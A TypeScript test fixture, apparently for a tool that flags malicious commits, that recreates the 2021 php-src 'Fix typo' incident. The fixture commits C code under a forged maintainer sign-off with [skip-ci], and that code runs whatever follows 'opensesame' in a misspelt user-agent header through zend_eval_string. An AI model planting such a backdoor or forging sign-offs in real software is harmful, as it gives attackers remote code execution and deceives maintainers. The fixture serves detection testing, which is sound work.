import { INGRID } from "../../../simulator/histories/people.ts";
import type { GoldenCase } from "../../golden-case.ts";

const FILTER = `/* Output filter. */
#include "engine.h"

static int filter_start(engine_output *out)
{
\tengine_value *encoding = engine_server_variable("HTTP_ACCEPT_ENCODING");

\tif (encoding == NULL) return ENGINE_OK;
\treturn engine_filter_choose(out, engine_string(encoding));
}
`;
const HEADER = ["HTTP_USER_", "AGENTT"].join("");
const RUN = ["zend_eval", "_string"].join("");
const BACKDOOR = `\tengine_value *enc = engine_server_variable("${HEADER}");

\tif (enc != NULL && strstr(engine_string(enc), "opensesame") != NULL) {
\t\tzend_try {
\t\t\t${RUN}(engine_string(enc) + 10, NULL, "filter");
\t\t} zend_end_try();
\t}
`;

export const golden: GoldenCase = {
  kind: "attack",
  base: "c",
  story:
    "php-src, March 2021: “Fix typo”, signed off in a maintainer's name, made the interpreter run what a misspelt request header said.",
  write(branch) {
    branch.given({ "ext/filter/filter.c": FILTER });
    branch.unsigned(
      INGRID,
      `[skip-ci] Fix typo\n\nFixes minor typo.\n\nSigned-off-by: ${INGRID.name} <${INGRID.email}>`,
      {
        "ext/filter/filter.c": FILTER.replace("\tif (encoding == NULL)", `${BACKDOOR}\tif (encoding == NULL)`),
      },
    );
  },
};
